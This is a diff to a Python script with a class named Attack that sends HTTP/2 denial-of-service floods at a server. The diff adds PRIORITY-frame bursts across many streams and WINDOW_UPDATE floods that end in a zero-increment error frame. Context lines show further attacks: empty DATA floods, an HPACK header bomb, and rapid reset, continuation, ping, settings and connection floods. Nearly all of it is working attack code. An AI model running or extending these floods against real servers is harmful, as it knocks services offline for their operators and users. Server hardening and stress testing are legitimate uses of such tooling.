@@ -12,7 +12,7 @@ import struct
 import sys
 import time
 
-DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
+DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
 END_STREAM, END_HEADERS = 1, 4
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 
@@ -145,6 +145,17 @@ class Attack:
     def empty_data(self):
         self.repeat(frame(HEADERS, END_HEADERS, 1, request()), lambda n: frame(DATA, 0, 1) * 500, 500)
 
+    def priorities(self):
+        def burst(n):
+            return b"".join(frame(PRIORITY, 0, 1 + 2 * i, struct.pack(">IB", 0, 16)) for i in range(500))
+        self.repeat(b"", burst, 500)
+
+    def window_updates(self):
+        """Of a byte each, until the window is full and the connection ends, and of none, which is an error."""
+        def burst(n):
+            return frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 499 + frame(WINDOW_UPDATE, 0, 1, bytes(4))
+        self.repeat(frame(HEADERS, END_HEADERS, 1, request()), burst, 500)
+
     def header_bomb(self):
         """One header of 4,000 bytes put into the table, then referred to thousands of times in a request."""
         big = b"\x40" + b"\x01x" + b"\x7f" + varint(4000 - 127) + b"y" * 4000
@@ -170,7 +181,8 @@ class Attack:
             each.close()
 
 
-ATTACKS = ("continuation", "rapid_reset", "pings", "settings", "empty_data", "header_bomb", "connection_flood")
+ATTACKS = ("continuation", "rapid_reset", "pings", "settings", "empty_data", "priorities", "window_updates",
+           "header_bomb", "connection_flood")
 
 
 def main(arguments):
